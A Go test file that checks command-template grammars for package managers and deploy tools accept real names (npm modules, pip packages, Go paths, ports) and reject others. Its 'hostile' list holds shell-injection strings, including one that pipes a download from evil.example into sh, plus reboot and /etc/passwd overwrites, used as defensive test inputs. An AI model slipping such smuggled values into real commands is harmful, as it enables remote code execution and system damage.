package signal

import (
	"slices"
	"testing"
)

// hostile are texts that a log may have in place of a name, and that do more than a name in a shell.
var hostile = []string{"a;curl${IFS}evil.example|sh", "x&&reboot", "`reboot`", "$(reboot)", "-rf", "evil>/etc/passwd"}

// TestNamesOfEcosystems: the grammars take real names, and nothing that a shell reads otherwise.
func TestNamesOfEcosystems(t *testing.T) {
	for _, test := range []struct {
		code, hole string
		legal, not []string
	}{
		{"npm install <module>", "module", []string{"express", "@nestjs/core", "lodash.get", "JSONStream", "socket.io@4.7.2", "p-queue"}, []string{"@a/b/c", "../x", "-g", "a b", "a\nb", "a?b"}},
		{"pip install <package>", "package", []string{"Flask", "discord.py", "psycopg2-binary", "uvicorn[standard]", "django==5.0.1"}, []string{"-r", "a/b", "x==", "flask<2;ls", "git+https://x"}},
		{"gem install <gem>", "gem", []string{"rails", "aws-sdk-s3", "net-http"}, []string{"a/b", "-v"}},
		{"bundle update <gem>", "gem", []string{"pg"}, []string{"pg,x", "$x"}},
		{"apt-get install -y <apt>", "apt", []string{"libpq-dev", "g++", "libstdc++6", "libpq-dev gcc"}, []string{"-y", "a;b"}},
		{"apk add <package>", "package", []string{"py3-pip", "postgresql16-client"}, []string{"--x", "a|b"}},
		{"go get <package>", "package", []string{"github.com/gorilla/mux", "golang.org/x/tools@v0.1.0", "gopkg.in/yaml.v3"}, []string{"-x", "a//b", "a b"}},
		{"gb vendor fetch <package>", "package", []string{"github.com/gorilla/mux"}, []string{"-x", "a b"}},
		{"mvn dependency:get <package>", "package", []string{"org.postgresql:postgresql", "junit:junit:4.13"}, []string{"a:b:c:d", "a;b"}},
		{"composer require <package>", "package", []string{"laravel/framework", "ext-gd"}, []string{"a/b/c", "a b"}},
		{"mix deps.update <package>", "package", []string{"phoenix_live_view"}, []string{"a/b"}},
		{"cargo add <package>", "package", []string{"serde_json", "tokio"}, []string{"-x", "a/b"}},
		{"dotnet add package <package>", "package", []string{"Newtonsoft.Json"}, []string{"a b"}},
		{"chmod +x <path>", "path", []string{"bin/start", "./run.sh", "/app/x.py"}, []string{"-R", "a b", "~/x;y", "$HOME", "a*"}},
		{"fly secrets unset <variable>", "variable", []string{"DATABASE_URL", "a1"}, []string{"1A", "A-B", "A=B", "A;B"}},
		{"dokku ports:add x http:80:<port>", "port", []string{"80", "65535"}, []string{"x", "-1", "123456"}},
		{"heroku buildpacks:add --index 1 <buildpack>", "buildpack", []string{"heroku/nodejs", "https://github.com/heroku/heroku-buildpack-apt.git"}, []string{"-x", "https://x/$(y)", "a b"}},
	} {
		g := typeOf(test.code, test.hole)
		for _, text := range test.legal {
			if !g.IsLegal(text) {
				t.Errorf("%s: %q isn't legal", test.code, text)
			}
		}
		for _, text := range slices.Concat(test.not, hostile) {
			if g.IsLegal(text) {
				t.Errorf("%s: %q is legal", test.code, text)
			}
		}
	}
}
